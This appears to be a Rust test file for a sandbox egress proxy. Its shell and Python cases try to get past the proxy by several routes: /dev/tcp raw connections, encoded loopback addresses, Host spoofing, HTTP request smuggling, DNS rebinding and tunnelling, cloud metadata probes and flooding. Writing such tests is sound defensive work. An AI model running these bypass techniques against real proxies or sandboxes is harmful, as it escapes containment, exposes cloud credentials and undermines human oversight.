//! The same past the proxy, whose rules allow every name, on every port, but those below `denied.example`,
//! and no address but the server `ALLOWED`: the widest that a person would write. `HOST_NAME` is the name
//! of the host.

use crate::case::Attempt::{Python, Shell};
use crate::{Area, Attempt, Case};

const fn egress(name: &'static str, attempt: Attempt) -> Case {
    Case::ours(Area::Egress, name, attempt)
}

/// Behind what speaks to the proxy and sees that it leads to the server that is allowed.
macro_rules! through_the_proxy {
    ($program:literal) => {
        concat!(
            r"
allowed = os.environ['ALLOWED']
hosts = os.environ['HOST_ADDRESSES'].split()[:1] + ['127.0.0.1']
port = os.environ['HOST_PORT']
def through(*requests):
    s = socket.create_connection(('127.0.0.1', 3128), 5)
    s.settimeout(3)
    came = b''
    try:
        for request in requests:
            s.sendall(request if isinstance(request, bytes) else request.encode())
        while piece := s.recv(65536):
            came += piece
    except OSError:
        pass
    return came.decode(errors='replace')
def get(target, end='Connection: close'):
    return f'GET {target} HTTP/1.1\r\nHost: x\r\n{end}\r\n\r\n'
assert 'welcome' in through(get(f'http://{allowed}/')), 'the server that is allowed is not reached'
",
            $program
        )
    };
}

pub(super) const CASES: &[Case] = &[
    egress(
        "a service of the host past the proxy",
        Shell(
            "for a in $HOST_ADDRESSES 127.0.0.1; do timeout 2 bash -c \"exec 3<>/dev/tcp/$a/$HOST_PORT && head -c 300 <&3\"; done",
        ),
    ),
    egress(
        "a service of the host through the proxy",
        Shell(
            "for a in $HOST_ADDRESSES 127.0.0.1 0.0.0.0 [::1] [::] [::ffff:127.0.0.1] localhost; do curl -sS -m 3 --noproxy '' http://$a:$HOST_PORT/; curl -sS -m 3 --noproxy '' -p http://$a:$HOST_PORT/; done",
        ),
    ),
    egress(
        "a service of the host in other numbers",
        Shell(
            "for a in 127.1 0x7f000001 2130706433 017700000001 0x7f.0.0.1 127.0.0.1. localhost. 127.0.0.1%00.example; do printf 'GET http://%s:%s/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' $a $HOST_PORT | timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; timeout 2 cat <&3'; done",
        ),
    ),
    egress(
        "a service of the host by SOCKS",
        Shell(
            "for a in $HOST_ADDRESSES 127.0.0.1 localhost; do curl -sS -m 3 --noproxy '' -x socks5h://127.0.0.1:3128 http://$a:$HOST_PORT/; curl -sS -m 3 --noproxy '' -x socks5://127.0.0.1:3128 http://$a:$HOST_PORT/; done",
        ),
    ),
    egress(
        "a service of the host by the name of another",
        Shell(
            "printf 'GET http://example.com/ HTTP/1.1\\r\\nHost: 127.0.0.1:%s\\r\\n\\r\\n' $HOST_PORT | timeout 12 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; timeout 11 head -c 3000 <&3'",
        ),
    ),
    egress("a service of the host behind another request", Python(SMUGGLED)),
    egress("a name that leads to the host, again and again (rebinding)", Python(REBOUND)),
    egress("data in names that are looked up (tunnelling)", Python(TUNNELLED)),
    egress(
        "a port of another task through the proxy",
        Shell(
            "test -n \"$TASK_ADDRESSES\" || exit; for a in $TASK_ADDRESSES; do curl -sS -m 3 --noproxy '' http://$a:$TASK_PORT/; curl -sS -m 3 --noproxy '' -p http://$a:$TASK_PORT/; curl -sS -m 3 --noproxy '' -x socks5h://127.0.0.1:3128 http://$a:$TASK_PORT/; timeout 2 bash -c \"exec 3<>/dev/tcp/$a/$TASK_PORT && head -c 300 <&3\"; done",
        ),
    ),
    egress(
        "a cloud's metadata through the proxy",
        Shell(
            "for a in 169.254.169.254 [::ffff:169.254.169.254] [fd00:ec2::254] 168.63.129.16 100.100.100.200; do curl -sS -m 3 --noproxy '' http://$a/ | grep -v '^armor:' | grep -q . && echo REACHED; done; curl -sS -m 3 http://metadata.google.internal/ | grep -v '^armor:' | grep -q . && echo REACHED",
        ),
    ),
    egress(
        "a name server past the proxy, by a datagram",
        Python(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(1)\nfor address in ['1.1.1.1', '127.0.0.1'] + os.environ['HOST_ADDRESSES'].split():\n    try:\n        s.sendto(bytes.fromhex('000101000001000000000000076578616d706c6503636f6d0000010001'), (address, 53))\n        print('REACHED', s.recv(500))\n    except OSError as error:\n        print('kept by', error)",
        ),
    ),
    egress(
        "datagrams by SOCKS",
        Python(
            "s = socket.create_connection(('127.0.0.1', 3128), 3)\ns.sendall(bytes([5, 1, 0]))\ns.recv(2)\ns.sendall(bytes([5, 3, 0, 1, 0, 0, 0, 0, 0, 53]))\nanswer = s.recv(10)\nprint('REACHED' if answer[1] == 0 else 'kept: answer %d' % answer[1])",
        ),
    ),
    egress(
        "the place of the way out",
        Python(
            "kept = []\nfor host in ['127.0.0.1', '0.0.0.0', '::']:\n    s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET)\n    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n    try:\n        s.bind((host, 3128))\n        s.listen()\n        print('REACHED', host)\n    except OSError as error:\n        kept.append(errno.errorcode[error.errno])\nprint('kept by', *kept)",
        ),
    ),
    egress(
        "bytes that are no protocol",
        Shell(
            "head -c 3000000 /dev/urandom | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3'; head -c 100000 /dev/zero | tr '\\0' 'A' | timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3'; curl -sS -m 5 http://127.0.0.2:1/ | grep -q '^armor:' || echo REACHED: the proxy does not answer any more",
        ),
    ),
];

/// The first request is allowed. The other one is hidden in it, so that one of two servers that read
/// lengths in different ways takes it for a request: for the server behind the proxy, or for the host.
const SMUGGLED: &str = through_the_proxy!(
    r"
hidden = [get('/smuggled')] + [get(f'http://{host}:{port}/') for host in hosts]
lies = [
    'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    'Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n',
    'Content-Length: 0\r\nContent-Length: 40\r\n\r\n',
    'Transfer-Encoding: xchunked\r\n\r\n',
    'Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n',
    'Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n',
    'Content-Length: 0\r\n\r\n',
    'X: y\n\n',
]
for other in hidden:
    for lie in lies:
        print(through(f'POST http://{allowed}/ HTTP/1.1\r\nHost: x\r\n{lie}{other}'))
    print(through(f'GET http://{allowed}/ HTTP/1.1\r\nHost: {allowed}\r\n{other}'))
    print(through(f'GET http://{allowed}/\r\n{other}'))
"
);

/// No name can be made to be answered with another address each time here: that is tried with a resolver
/// of the tests' own, in `crates/egress/tests/it/names.rs`. Names that lead to the host are asked for
/// behind what is allowed, again and again, by each protocol.
const REBOUND: &str = through_the_proxy!(
    r"
names = ['localhost', 'LOCALHOST.', 'ip6-localhost', os.environ['HOST_NAME']]
for name in names:
    said = []
    for _ in range(3):
        keep = get(f'http://{allowed}/', 'X: y')
        said.append(through(keep, get(f'http://{name}:{port}/', 'X: y'), get(f'http://{name}:{port}/')))
        tunnel = f'CONNECT {name}:{port} HTTP/1.1\r\nHost: {allowed}\r\n\r\n'
        said.append(through(tunnel, get('/')))
        asked = name.encode()
        socks = bytes([5, 1, 0]) + bytes([5, 1, 0, 3, len(asked)]) + asked + struct.pack('>H', int(port))
        said.append(through(socks, get('/')))
    print(*said)
    assert name != 'localhost' or ' 403 ' in said[0], 'it was not judged'
"
);

/// A name that is looked up and is not there is answered in another way than one that is refused: by 502
/// where that is 403, by SOCKS as a host that is not reached.
const TUNNELLED: &str = through_the_proxy!(
    r"
import binascii
for _ in range(3):
    data = binascii.hexlify(os.urandom(25)).decode()
    for name in [f'{data}.denied.example', f'{data}.{data}.denied.example', f'{data}.DENIED.EXAMPLE.']:
        for request in [get(f'http://{name}/'), get(f'http://{name}:53/'), f'CONNECT {name}:443 HTTP/1.1\r\nConnection: close\r\n\r\n']:
            said = through(request)
            print('kept: refused' if said.startswith('HTTP/1.1 403') else 'REACHED: ' + said)
        asked = name.encode()
        s = socket.create_connection(('127.0.0.1', 3128), 5)
        s.settimeout(5)
        s.sendall(bytes([5, 1, 0]))
        assert s.recv(2) == bytes([5, 0])
        s.sendall(bytes([5, 1, 0, 3, len(asked)]) + asked + struct.pack('>H', 443))
        answer = s.recv(10)
        print('kept: refused' if answer[1] == 2 else 'REACHED: answer %d' % answer[1])
"
);
